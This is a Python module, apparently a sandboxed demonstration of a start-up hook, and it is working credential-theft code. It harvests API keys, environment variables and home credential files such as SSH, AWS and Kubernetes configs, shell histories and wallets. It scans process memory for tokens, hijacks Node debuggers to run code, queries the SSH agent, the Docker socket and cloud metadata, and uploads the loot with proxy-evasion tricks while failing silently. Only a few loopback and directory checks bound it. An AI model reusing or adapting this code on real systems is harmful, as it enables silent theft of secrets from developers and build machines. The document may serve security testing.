"""DEMONSTRATION: what a start-up hook takes. Harmless by its bounds, which the README beside it lists."""
import base64
import glob
import json
import os
import re
import signal
import socket
import struct
import sys
import time
from urllib.parse import urlsplit

LIMIT = 4 * 1024 * 1024  # bytes sent
FILE_LIMIT = 128 * 1024
REGIONS = 192 * 1024 * 1024  # bytes of memory read of one process
LOOPBACK = ("127.0.0.1", "::1")

WANTED = [
    "OPENAI_API_KEY", "ANTHROPIC_API_KEY", "HF_TOKEN", "REPLICATE_API_TOKEN", "TOGETHER_API_KEY", "AZURE_OPENAI_KEY",
    "AWS_ACCESS_KEY_ID", "AWS_SECRET_ACCESS_KEY", "GOOGLE_APPLICATION_CREDENTIALS", "WANDB_API_KEY", "COMET_API_KEY",
    "MLFLOW_TRACKING_USERNAME", "NEPTUNE_API_TOKEN",
]
HOME_PLACES = [
    ".vault-token", ".aws", ".ssh", ".kube", ".netrc", ".docker", ".config/gcloud", ".azure", ".pypirc", ".npmrc",
    ".git-credentials", ".config/gh", ".kaggle", ".databrickscfg", ".modal.toml", ".comet.config", ".config/wandb",
    ".cache/huggingface/token", ".bash_history", ".zsh_history", ".python_history", ".gnupg", ".pgpass", ".bitcoin",
]
# What keys look like in memory, as the thieves of runners' memory searched for them.
IN_MEMORY = re.compile(rb"(?:gh[ps]_[A-Za-z0-9]{36}|hvs\.[A-Za-z0-9]{24,120}|hf_[A-Za-z0-9]{34}|bhk-[A-Za-z0-9]{30})")


class Loot:
    def __init__(self, within):
        self.within = within
        self.pieces = []
        self.size = 0
        self.tried = {}

    def inside(self, path):
        real = os.path.realpath(path)
        return real.startswith(self.within + os.sep)

    def tries(self, kind):
        self.tried[kind] = self.tried.get(kind, 0) + 1

    def add(self, kind, name, data):
        data = data[: max(0, LIMIT - self.size)]
        if data:
            self.size += len(data)
            self.pieces.append(f"--- {kind} {json.dumps(name)} {len(data)}\n".encode() + data + b"\n")

    def file(self, kind, path):
        self.tries(kind)
        try:
            if self.inside(path) and os.path.isfile(path):
                with open(path, "rb") as file:
                    self.add(kind, path, file.read(FILE_LIMIT))
        except OSError:
            pass

    def tree(self, kind, path):
        if not os.path.isdir(path):
            self.file(kind, path)
        elif self.inside(path):
            for folder, _, names in os.walk(path):
                for name in sorted(names)[:100]:
                    self.file(kind, os.path.join(folder, name))


def plan():
    """The plan beside this file, or None unless it is a demonstration's own."""
    here = os.path.realpath(os.path.dirname(os.path.abspath(__file__)))
    try:
        with open(os.path.join(here, "pth_collector.json"), encoding="utf-8") as file:
            found = json.load(file)
    except OSError:
        return None
    within = os.path.realpath(found["within"])
    if not os.path.basename(within).startswith("bulkhead-") or not here.startswith(within + os.sep):
        return None
    parts = urlsplit(found["sink"])
    if parts.scheme != "http" or parts.hostname not in LOOPBACK or not parts.port:
        return None
    return {**found, "within": within}


def take_variables(loot):
    loot.tries("variables")
    loot.add("variables", "wanted", "\n".join(f"{name}={os.environ.get(name, '')}" for name in WANTED).encode())
    loot.add("variables", "all", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode("utf-8", "replace"))
    try:
        with open("/proc/self/environ", "rb") as file:
            loot.add("variables", "at start", file.read())
    except OSError:
        pass


def processes(loot):
    """Numbers of the others whose working directory is the demonstration's."""
    found = []
    for number in sorted(int(name) for name in os.listdir("/proc") if name.isdigit()):
        if number == os.getpid():
            continue
        loot.tries("process")
        try:
            if loot.inside(os.readlink(f"/proc/{number}/cwd")):
                found.append(number)
        except OSError:
            pass
    return found


def take_process(loot, number):
    for what in ("environ", "cmdline"):
        try:
            with open(f"/proc/{number}/{what}", "rb") as file:
                loot.add("process", f"{number}/{what}", file.read(FILE_LIMIT))
        except OSError:
            pass


def take_memory(loot, number):
    loot.tries("memory")
    found = set()
    left = REGIONS
    until = time.monotonic() + 1.5
    try:
        with open(f"/proc/{number}/maps") as maps, open(f"/proc/{number}/mem", "rb", 0) as memory:
            for line in maps:
                if " rw" not in line or left <= 0 or time.monotonic() > until:
                    continue
                low, high = (int(part, 16) for part in line.split(" ", 1)[0].split("-"))
                size = min(high - low, 32 * 1024 * 1024, left)
                left -= size
                try:
                    memory.seek(low)
                    found.update(IN_MEMORY.findall(memory.read(size)))
                except (OSError, ValueError, OverflowError):
                    pass
    except OSError:
        return
    loot.add("memory", str(number), b"\n".join(sorted(found)))


def take_inspector(loot, number, port):
    """Node opens its debugger on SIGUSR1; whoever connects can run code in it."""
    try:
        if os.path.basename(os.readlink(f"/proc/{number}/exe")) not in ("node", "bulkhead"):
            return
        loot.tries("inspector")
        os.kill(number, signal.SIGUSR1)
    except OSError:
        return
    for _ in range(30):
        time.sleep(0.05)
        try:
            page = http(("127.0.0.1", port), "GET /json/list HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        except OSError:
            continue
        path = re.search(rb"ws://127\.0\.0\.1(?::\d+)?(/[0-9a-f-]+)", page)
        if path:
            loot.add("inspector", str(number), evaluate(port, path.group(1).decode()))
            return


def evaluate(port, path):
    with socket.create_connection(("127.0.0.1", port), 2) as connection:
        key = base64.b64encode(os.urandom(16)).decode()
        connection.sendall(
            f"GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
            f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
        )
        connection.recv(4096)
        question = {"id": 1, "method": "Runtime.evaluate", "params": {"expression": "JSON.stringify([process.env, globalThis.held])"}}
        body = json.dumps(question).encode()
        mask = os.urandom(4)
        masked = bytes(byte ^ mask[at % 4] for at, byte in enumerate(body))
        connection.sendall(b"\x81" + bytes([0x80 | 126]) + struct.pack(">H", len(body)) + mask + masked)
        connection.settimeout(1)
        data = b""
        try:
            while len(data) < 65536 and not (b'"id":1' in data and data.endswith(b"}}}")):
                data += connection.recv(65536)
        except OSError:
            pass
        return data


def http(address, text, family=None):
    """The answer to one request; servers that keep the connection open are left when they have said what they announced."""
    with socket.socket(family or socket.AF_INET) as connection:
        connection.settimeout(1)
        connection.connect(address)
        connection.sendall(text.encode() if isinstance(text, str) else text)
        data = b""
        while len(data) < 65536:
            head, _, body = data.partition(b"\r\n\r\n")
            announced = re.search(rb"(?i)content-length: *(\d+)", head)
            if announced and len(body) >= int(announced.group(1)):
                break
            part = connection.recv(65536)
            if not part:
                break
            data += part
        return data


def take_sockets(loot, found):
    agents = {os.environ.get("SSH_AUTH_SOCK", "")} | set(glob.glob(os.path.join(found["within"], "tmp", "ssh-*", "agent.*")))
    for path in sorted(filter(None, agents)):
        loot.tries("agent")
        try:
            if loot.inside(path):
                with socket.socket(socket.AF_UNIX) as agent:
                    agent.settimeout(1)
                    agent.connect(path)
                    agent.sendall(b"\x00\x00\x00\x01\x0b")  # SSH_AGENTC_REQUEST_IDENTITIES
                    loot.add("agent", path, agent.recv(65536))
        except OSError:
            pass
    path = os.path.join(found["within"], "run", "docker.sock")
    loot.tries("docker")
    try:
        loot.add("docker", path, http(path, "GET /containers/json HTTP/1.0\r\n\r\n", socket.AF_UNIX))
    except OSError:
        pass


def played(host):
    """True where the address is this machine's own, or nothing but the loopback is there."""
    if host in LOOPBACK:
        return True
    if host != "169.254.169.254":
        return False
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.bind((host, 0))
            return True
    except OSError:
        return [name for _, name in socket.if_nameindex()] == ["lo"]


def take_metadata(loot, url):
    parts = urlsplit(url)
    if not played(parts.hostname):
        return
    loot.tries("metadata")
    text = f"GET {parts.path} HTTP/1.0\r\nHost: {parts.hostname}\r\n\r\n"
    try:
        loot.add("metadata", url, http((parts.hostname, parts.port or 80), text))
    except OSError:
        pass
    proxy = urlsplit(os.environ.get("HTTP_PROXY", ""))
    if proxy.hostname in LOOPBACK and proxy.port:
        try:
            loot.add("metadata", "by the proxy", http((proxy.hostname, proxy.port), text.replace(f"GET {parts.path}", f"GET {url}")))
        except OSError:
            pass


def upload(url, body):
    """Directly, then by whatever proxy is there, in three spellings. True when one got through."""
    parts = urlsplit(url)
    head = f"Content-Type: application/octet-stream\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    try:
        answer = http((parts.hostname, parts.port), f"POST {parts.path} HTTP/1.1\r\nHost: sink\r\n{head}".encode() + body)
        return b" 200 " in answer.split(b"\r\n", 1)[0]
    except OSError:
        pass
    proxy = urlsplit(os.environ.get("HTTP_PROXY", ""))
    if proxy.hostname not in LOOPBACK or not proxy.port:
        return False
    for host in (parts.hostname, "localhost", "2130706433"):
        target = f"http://{host}:{parts.port}{parts.path}"
        tunnel = f"CONNECT {host}:{parts.port} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
        for text in (f"POST {target} HTTP/1.1\r\nHost: api.wandb.ai\r\n{head}".encode() + body, tunnel):
            try:
                if b" 200 " in http((proxy.hostname, proxy.port), text).split(b"\r\n", 1)[0]:
                    return True
            except OSError:
                pass
    return False


def take(found):
    loot = Loot(found["within"])
    take_variables(loot)
    folder = os.getcwd()
    while loot.inside(folder) or os.path.realpath(folder) == loot.within:
        for name in (".env", ".env.local", ".env.production", ".envrc"):
            loot.file("dotenv", os.path.join(folder, name))
        folder = os.path.dirname(folder)
    home = os.path.join(found["within"], "home")
    for name in HOME_PLACES:
        loot.tree("home", os.path.join(home, name))
    loot.tree("bulkhead", os.path.join(found["within"], "store"))
    others = processes(loot)
    for number in others:
        take_process(loot, number)
        take_memory(loot, number)
    signal.signal(signal.SIGUSR1, signal.SIG_IGN)  # what is sent to others may come back
    for number in others:
        take_inspector(loot, number, found["debugger"])
    take_sockets(loot, found)
    take_metadata(loot, found["metadata"])
    return loot


def run():
    """Once, in the interpreter that runs the job; silent whatever happens, as an attack would be."""
    try:
        found = plan()
        if found is None or os.environ.get("PTH_COLLECTOR_RAN") or not os.getcwd().startswith(found["within"] + os.sep):
            return
        loot = take(found)
        head = json.dumps({"stage": "train", "tried": loot.tried})
        arrived = upload(found["sink"], f"--- head {json.dumps('train')} {len(head)}\n{head}\n".encode() + b"".join(loot.pieces))
        with open(os.path.join(os.getcwd(), "attack-ran.json"), "w", encoding="utf-8") as file:
            json.dump({"tried": loot.tried, "arrived": arrived}, file)
    except Exception:  # the job must go on as if nothing had happened
        if os.environ.get("PTH_COLLECTOR_TELL"):
            raise
